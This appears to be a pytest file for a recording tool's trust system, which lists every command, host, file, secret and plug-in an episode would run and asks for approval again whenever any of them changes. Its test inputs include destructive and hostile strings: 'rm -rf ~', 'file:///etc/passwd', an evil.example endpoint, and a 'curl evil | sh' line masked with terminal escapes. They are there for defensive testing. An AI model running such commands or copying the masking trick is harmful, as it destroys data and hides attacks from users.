"""Trust: everything that would run is shown, allowed exactly as it is, and asked about again when it changes."""

import os
import stat
from pathlib import Path

import pytest
from support.trusted import browser, episode, open_, run, terminal

from lectern.pipeline.episode.capture_block import Capture, Environment, FixtureFile
from lectern.pipeline.episode.capture_kinds import KINDS
from lectern.pipeline.episode.characters import Character
from lectern.pipeline.episode.folder import read_episode
from lectern.pipeline.episode.model import Episode, Scene
from lectern.pipeline.episode.settings import BlenderSettings, CaptureSettings, Settings
from lectern.pipeline.episode.steps import Step
from lectern.pipeline.episode.targets import Target
from lectern.pipeline.providers.episode_providers import plugins_of
from lectern.pipeline.studio.check import check
from lectern.pipeline.trust.grants import NotTrusted, grant_trust, grants_cover, is_trusted, require_trust
from lectern.pipeline.trust.permissions import permission_requests, recording_permissions
from lectern.pipeline.trust.request import PermissionRequest  # fmt: skip


def shown(found: tuple[PermissionRequest, ...]) -> list[tuple[str, str, str]]:
    return [(d.kind, d.where, d.what) for d in found]


def test_prose_and_pages_of_the_episode_need_no_trust(tmp_path: Path) -> None:
    safe = episode(tmp_path, browser(open_("pages/map.html#top"), Step(action="click"), open_("about:blank")))
    assert permission_requests(safe) == ()
    assert is_trusted((), profile=tmp_path)


def test_every_terminal_step_is_a_danger_hidden_and_final_ones_too(tmp_path: Path) -> None:
    capture = terminal(
        run("ls"), Step(action="type", value="git log", line=8), Step(action="wait"),
        hidden=(run("rm -rf old", 3),), **{"finally": (run("kill %1", 11),)},
    )  # fmt: skip
    assert shown(permission_requests(episode(tmp_path, capture))) == [
        ("terminal", "script.md:3", "rm -rf old"),
        ("terminal", "script.md:7", "ls"),
        ("terminal", "script.md:8", "type git log (without Enter)"),
        ("terminal", "script.md:11", "kill %1"),
    ]


HARMLESS = {
    "terminal": {"wait", "highlight", "moment"},
    "editor": {"open", "select", "highlight", "scroll", "wait"},
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_every_action_that_gives_a_program_something_is_asked_about(tmp_path: Path, kind: str) -> None:
    for action in KINDS[kind].actions:
        steps = (run("ls"), Step(action=action, value="5", line=9))
        capture = Capture(id="c", kind=kind, line=4, steps=steps)
        asked = [request.where for request in permission_requests(episode(tmp_path, capture))]
        assert ("script.md:9" in asked) == (action not in HARMLESS[kind]), action


@pytest.mark.parametrize(
    ("address", "kind", "what"),
    [
        ("https://user:key@Example.org/x?y", "host", "example.org"),
        ("http://localhost:8080/admin", "host", "localhost:8080"),
        ("//cdn.example/x.js", "host", "cdn.example"),
        ("file:///etc/passwd", "file", "file:///etc/passwd"),
        ("../../private.html", "file", "../../private.html"),
        ("/etc/hosts", "file", "/etc/hosts"),
        ("javascript:alert(1)", "file", "javascript:alert(1)"),
    ],
)
def test_servers_and_files_outside_the_episode_are_dangers(tmp_path: Path, address: str, kind: str, what: str) -> None:
    assert shown(permission_requests(episode(tmp_path, browser(open_(address))))) == [(kind, "script.md:9", what)]


def test_a_desktop_is_dangerous_at_every_step(tmp_path: Path) -> None:
    capture = Capture(id="d", kind="desktop", steps=(Step(action="click", value="", line=4, at="go"),))
    assert shown(permission_requests(episode(tmp_path, capture))) == [("desktop", "script.md:4", '{"action":"click"}')]


def test_a_folder_for_a_terminal_counts_with_the_content_of_its_files(tmp_path: Path) -> None:
    (tmp_path / "lab/sub").mkdir(parents=True)
    (tmp_path / "lab/sub/make.sh").write_text("echo harmless")
    before = permission_requests(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
    (tmp_path / "lab/sub/make.sh").write_text("echo harmful")
    (tmp_path / "media").mkdir()
    (tmp_path / "media/made.mkv").write_text("by a build")
    after = permission_requests(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
    assert (
        permission_requests(episode(tmp_path, terminal(run("ls"), folder=".")))[0].what
        == "everything in . is copied for it, 1 file: lab/sub/make.sh"
    )
    roundabout = permission_requests(episode(tmp_path, terminal(run("ls"), folder=f"../{tmp_path.name}/lab")))[0]
    assert roundabout.content == after[0].content
    assert before[0].what == "everything in lab is copied for it, 1 file: sub/make.sh"
    assert before[0].content != after[0].content and before[1] == after[1]


def test_programs_named_in_the_settings_are_dangers_with_their_line(tmp_path: Path) -> None:
    (tmp_path / "lectern.toml").write_text('[blender]\nprogram = "/opt/blender"\n[capture]\nchromium = "./evil"\n')
    (tmp_path / "evil").write_text("#!/bin/sh")
    settings = Settings(blender=BlenderSettings(program="/opt/blender"), capture=CaptureSettings(chromium="./evil"))
    found = permission_requests(episode(tmp_path, settings=settings))
    assert shown(found) == [("program", "lectern.toml:2", "/opt/blender"), ("program", "lectern.toml:4", "./evil")]
    assert (found[0].content == "", len(found[1].content)) == (True, 64)


def test_plug_ins_of_the_episode_and_of_its_studio_are_dangers(tmp_path: Path) -> None:
    mine = tmp_path / "series" / "one"
    for home, name in ((mine, "a.py"), (tmp_path, "b.py")):
        (home / "plugins").mkdir(parents=True)
        (home / "plugins" / name).write_text("def providers(registry): ...")
    (tmp_path / "lectern.toml").write_text("")
    assert [(d.kind, d.where) for d in permission_requests(episode(mine))] == [
        ("plug-in", "plugins/a.py:1"),
        ("plug-in", "plugins/b.py:1"),
    ]


def test_a_voice_that_lectern_does_not_carry_is_a_danger_with_its_settings(tmp_path: Path) -> None:
    speakers = tuple(
        Character(
            id=i, name=i, portrait="x.svg", provider=p, voice="v", settings=(("url", "http://x"),), file=f"c/{i}.json"
        )
        for i, p in (("ada", "espeak"), ("ben", "hum"))
    )
    assert shown(permission_requests(episode(tmp_path, characters=speakers))) == [
        ("provider", "characters/ben.json", "hum, voice v url = http://x")
    ]


def speaker(provider: str, **settings: str) -> Character:
    pairs = tuple(settings.items())
    return Character(
        id="ada", name="Ada", portrait="x.svg", provider=provider, voice="v", settings=pairs, file="c/ada.json"
    )


def test_a_service_is_a_danger_with_its_host_and_the_key_that_goes_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LECTERN_CONFIG_HOME", str(tmp_path))
    monkeypatch.setenv("OPENAI_API_KEY", "secret")
    (tmp_path / "lectern.toml").write_text("[film]\nfps = 30\n[voice.openai]\nspeed = 1.1\n")
    settings = Settings(voice=(("openai", (("speed", "1.1"),)),))
    own = permission_requests(episode(tmp_path, characters=(speaker("openai"),), settings=settings))
    assert shown(own) == [
        ("host", "lectern.toml:3", "api.openai.com is sent what Ada says, with the key from OPENAI_API_KEY")
    ]
    elsewhere = permission_requests(
        episode(tmp_path, characters=(speaker("openai", base_url="https://evil.example/v1"),))
    )
    assert shown(elsewhere) == [("host", "characters/ada.json", "evil.example is sent what Ada says")]


def test_a_voice_that_is_a_program_is_a_danger_with_the_scripts_that_come_with_the_episode(tmp_path: Path) -> None:
    (tmp_path / "speak.py").write_text("harmless")
    before = permission_requests(
        episode(tmp_path, characters=(speaker("command", command="python3 speak.py {audio}"),))
    )
    (tmp_path / "speak.py").write_text("harmful")
    after = permission_requests(episode(tmp_path, characters=(speaker("command", command="python3 speak.py {audio}"),)))
    told = f"python3 speak.py '{{audio}}'; it can load everything in {tmp_path.name}/, 1 file"
    assert shown(before) == [("program", "characters/ada.json", told)]
    assert before[0].content != after[0].content


def test_a_persons_own_recordings_need_no_trust(tmp_path: Path) -> None:
    assert permission_requests(episode(tmp_path, characters=(speaker("recording"),))) == ()


def test_a_disabled_scene_runs_nothing(tmp_path: Path) -> None:
    off = Scene(id="a", title="A", line=1, captures=(terminal(run("ls")),), enabled=False)
    assert permission_requests(Episode(folder=tmp_path, title="T", narrator="ada", scenes=(off,), characters=())) == ()


def test_trust_holds_for_exactly_what_was_shown_and_moves_with_edited_prose(tmp_path: Path) -> None:
    found = permission_requests(episode(tmp_path, terminal(run("ls", 7), run("pwd", 8))))
    assert not is_trusted(found, profile=tmp_path / "profile")
    grant_trust(found, tmp_path, profile=tmp_path / "profile")
    moved = permission_requests(episode(tmp_path, terminal(run("ls", 17), run("pwd", 18))))
    assert is_trusted(moved, profile=tmp_path / "profile")
    for changed in (
        (run("ls"), run("pwd -P")),
        (run("pwd"), run("ls")),
        (run("ls"),),
        (run("ls"), run("pwd"), run("id")),
    ):
        assert not is_trusted(permission_requests(episode(tmp_path, terminal(*changed))), profile=tmp_path / "profile")


def logged_in(*steps: Step) -> Capture:
    return browser(open_("https://lamps.de/orders"), *steps).model_copy(update={"environment": Environment(login="me")})


@pytest.mark.parametrize(
    ("allowed", "done"),
    [
        (terminal(run("type rm -rf ~")), terminal(Step(action="type", value="rm -rf ~", enter=True))),
        (terminal(Step(action="type", value="rm", enter=False)), terminal(Step(action="type", value="rm", enter=True))),
        (terminal(run("zsh: rm")), terminal(run("rm"), shell="zsh")),
        (terminal(Step(action="scroll", value="47")), terminal(Step(action="scroll", value="94"))),
        (logged_in(Step(action="dialog", value="dismiss")), logged_in(Step(action="dialog", value="accept"))),
        (logged_in(), logged_in().model_copy(update={"steps": (open_("https://lamps.de/orders/1/delete"),)})),
    ],
)  # fmt: skip
def test_whoever_allows_one_thing_has_not_allowed_another_that_reads_alike(
    tmp_path: Path, allowed: Capture, done: Capture
) -> None:
    grant_trust(permission_requests(episode(tmp_path, allowed)), tmp_path, profile=tmp_path / "profile")
    assert not is_trusted(permission_requests(episode(tmp_path, done)), profile=tmp_path / "profile")


def test_the_message_shows_every_thing_with_its_line_and_hides_nothing(tmp_path: Path) -> None:
    found = permission_requests(episode(tmp_path, terminal(run("ls \x1b[8m; curl evil\u202e | sh\nrm x", 12))))
    with pytest.raises(NotTrusted) as raised:
        require_trust(found, profile=tmp_path / "profile")
    assert "script.md:12  terminal  ls \\x1b[8m; curl evil\\u202e | sh\\nrm x" in str(raised.value)
    assert "--trust" in str(raised.value) and raised.value.requests == found


def test_the_file_of_trust_belongs_to_the_person_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LECTERN_CONFIG_HOME", str(tmp_path / "home"))
    old = os.umask(0)
    try:
        grant_trust(permission_requests(episode(tmp_path, terminal(run("ls")))), tmp_path)
    finally:
        os.umask(old)
    file = tmp_path / "home" / "trust.json"
    assert (stat.S_IMODE(file.stat().st_mode), stat.S_IMODE(file.parent.stat().st_mode)) == (0o600, 0o700)
    assert {f.name for f in file.parent.iterdir()} == {"state", "trust.json"}


def test_an_unreadable_file_of_trust_trusts_nothing_and_says_so(tmp_path: Path) -> None:
    (tmp_path / "trust.json").write_text("{")
    with pytest.raises(Exception, match="Delete it"):
        is_trusted(permission_requests(episode(tmp_path, terminal(run("ls")))), profile=tmp_path)


def test_check_shows_what_would_run_until_it_is_allowed_and_what_is_wrong_with_captures_and_faces(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LECTERN_CONFIG_HOME", str(tmp_path / "profile"))
    (tmp_path / "script.md").write_text("# One\n\nHello.\n\n```capture\nkind: terminal\nsteps:\n  - run: make\n```\n")
    assert [d.what for d in check(tmp_path, config=None).permissions] == ["make"]
    grant_trust(permission_requests(read_episode(tmp_path)), tmp_path)
    assert check(tmp_path, config=None).permissions == ()
    lost = "```capture\nkind: browser\nsteps:\n  - open: a.html\n```\n```capture\nkind: terminal\nfolder: b\nsteps:\n  - run: ls\n```\n"
    (tmp_path / "script.md").write_text(f"# One\n\nHello.\n\n{lost}")
    found = check(tmp_path, config=None).problems
    assert tuple(map(str, found)) == (
        f"script.md:8:11: there is no a.html in {tmp_path.name}/",
        f"script.md:12:9: there is no b in {tmp_path.name}/",
    )
    (tmp_path / "characters").mkdir()
    (tmp_path / "script.md").write_text("# One {#one}\n\nHello.\n")
    for written, says in (
        (
            '{"portrait": "lectern:ada", "provider": "kokorro"}',
            'characters/ada.json:1: there is no voice provider called "kokorro"; ',
        ),
        (
            '{"portrait": "lectern:ada", "provider": "kokoro",\n "settings": {\n"sped": "1"}}',
            'characters/ada.json:3: "settings" of kokoro has no "sped" (did you mean "speed"?); ',
        ),
        (
            '{"portrait": "lectern:ada",\n "palette": {"cloht": "#ffffff"}}',
            'characters/ada.json:2: ada.svg: the palette names a class "cloht"; ',
        ),
        (
            '{"portrait": "lectern:ada", "provider": "recording"}',
            'script.md:3: there is no recording of "Hello. …"; record it as ',
        ),
    ):
        (tmp_path / "characters" / "ada.json").write_text(written)
        told = [f"{one.file}:{one.line}: {one.message}" for one in check(tmp_path, config=None).problems]
        assert [one[: len(says)] for one in told] == [says]


def test_plug_ins_of_the_episode_and_of_its_studio_are_shown_once_each(tmp_path: Path) -> None:
    inner = tmp_path / "ep"
    for home in (tmp_path, inner):
        (home / "plugins").mkdir(parents=True)
        (home / "plugins" / f"{home.name}.py").write_text("def providers(registry): ...\n")
    (tmp_path / "lectern.toml").write_text("")
    assert [p.file.parent.parent for p in plugins_of(inner)] == [inner, tmp_path]
    (inner / "lectern.toml").write_text("")
    assert [p.file.parent.parent for p in plugins_of(inner)] == [inner]


def test_what_an_editor_does_needs_trust_once_it_runs_something(tmp_path: Path) -> None:
    edit = Step(action="edit", target=Target(lines=(1, 2)), text="import os", line=4)
    still = Capture(id="e", kind="editor", steps=(Step(action="open", value="a.py"), edit), line=3)
    assert permission_requests(episode(tmp_path, still)) == ()
    runs = still.model_copy(update={"steps": (*still.steps, run("python a.py"))})
    first, second = permission_requests(episode(tmp_path, runs))
    assert (first.kind, second.kind) == ("editor", "editor")
    assert "import os" in first.what
    grant_trust((first, second), tmp_path, profile=tmp_path)
    other = edit.model_copy(update={"text": "import shutil"})
    changed = runs.model_copy(update={"steps": (runs.steps[0], other, run("python a.py"))})
    assert not is_trusted(permission_requests(episode(tmp_path, changed)), profile=tmp_path)


def test_logins_secrets_variables_files_and_sandboxes_are_shown(tmp_path: Path) -> None:
    (tmp_path / "data.csv").write_text("1")
    (tmp_path / "seed.sh").write_text("echo")
    page = Capture(
        id="b", kind="browser", line=5, environment=Environment(login="work", hosts=("cdn.lamps.de",)),
        steps=(
            open_("https://Lamps.de/login"), Step(action="type", secret="TOKEN", line=10),
            Step(action="upload", value="data.csv", line=11), Step(action="click", target=Target(text="Buy"), line=12, at="x"),
        ),
    )  # fmt: skip
    assert shown(permission_requests(episode(tmp_path, page))) == [
        ("host", "script.md:5", "cdn.lamps.de"),
        ("login", "script.md:5", 'your profile "work", logged in as you, is used at lamps.de, cdn.lamps.de'),
        ("host", "script.md:9", "lamps.de"),
        ("browser", "script.md:9", '{"action":"open","value":"https://Lamps.de/login"}'),
        ("secret", "script.md:10", "TOKEN of yours is typed into lamps.de, cdn.lamps.de"),
        ("browser", "script.md:10", '{"action":"type","secret":"TOKEN"}'),
        ("file", "script.md:11", "data.csv is sent to lamps.de, cdn.lamps.de"),
        ("browser", "script.md:11", '{"action":"upload","value":"data.csv"}'),
        ("browser", "script.md:12", '{"action":"click","target":{"text":"Buy"}}'),
    ]
    laid = (FixtureFile(path="x.sh", file="seed.sh"),)
    environment = Environment(env=(("PATH", "."),), files=laid, sandbox=True, network=True)
    found = permission_requests(
        episode(tmp_path, terminal(Step(action="type", secret="KEY", line=8), environment=environment))
    )
    assert shown(found) == [
        ("sandbox", "script.md:5", "what it runs has a home of its own, with network"),
        ("variable", "script.md:5", "PATH=."),
        ("file", "script.md:5", "x.sh is laid out for it"),
        ("secret", "script.md:8", "KEY of yours is typed into a terminal"),
        ("terminal", "script.md:8", "type (without Enter)"),
    ]
    (tmp_path / "seed.sh").write_text("rm -rf ~")
    assert permission_requests(episode(tmp_path, terminal(environment=environment)))[2] != found[2]


def test_desktops_and_ides_show_their_program_their_server_and_what_is_done_there(tmp_path: Path) -> None:
    desktop = Capture(
        id="d", kind="desktop", app="gedit notes.txt", steps=(Step(action="press", value="Enter", line=6),), line=5
    )
    ide = Capture(
        id="i",
        kind="ide",
        url="http://localhost:8443/",
        steps=(run("make", 7), Step(action="scroll", value="9")),
        line=5,
    )
    assert shown(permission_requests(episode(tmp_path, desktop))) == [
        ("desktop", "script.md:5", "app gedit notes.txt"), ("desktop", "script.md:6", '{"action":"press","value":"Enter"}'),
    ]  # fmt: skip
    assert shown(permission_requests(episode(tmp_path, ide))) == [
        ("host", "script.md:5", "localhost:8443"), ("ide", "script.md:5", '{"action":"open","value":"http://localhost:8443/"}'),
        ("ide", "script.md:7", '{"action":"run","value":"make"}'),
    ]  # fmt: skip


def test_casts_and_footage_only_show_what_is_there(tmp_path: Path) -> None:
    cast = terminal(run("rm -rf /"), cast="session.cast")
    footage = Capture(id="f", kind="footage", file="a.mp4", steps=(Step(action="moment", moment=1.0),), line=5)
    assert permission_requests(episode(tmp_path, cast, footage)) == ()


def test_recording_alone_asks_for_trust_in_captures_alone(tmp_path: Path) -> None:
    voice = Character(id="ada", name="Ada", provider="command", settings=(("command", "speak"),))
    both = episode(tmp_path, terminal(run("ls")), characters=(voice,))
    assert [d.kind for d in recording_permissions(both)] == ["terminal"]
    assert grants_cover(permission_requests(both), recording_permissions(both))
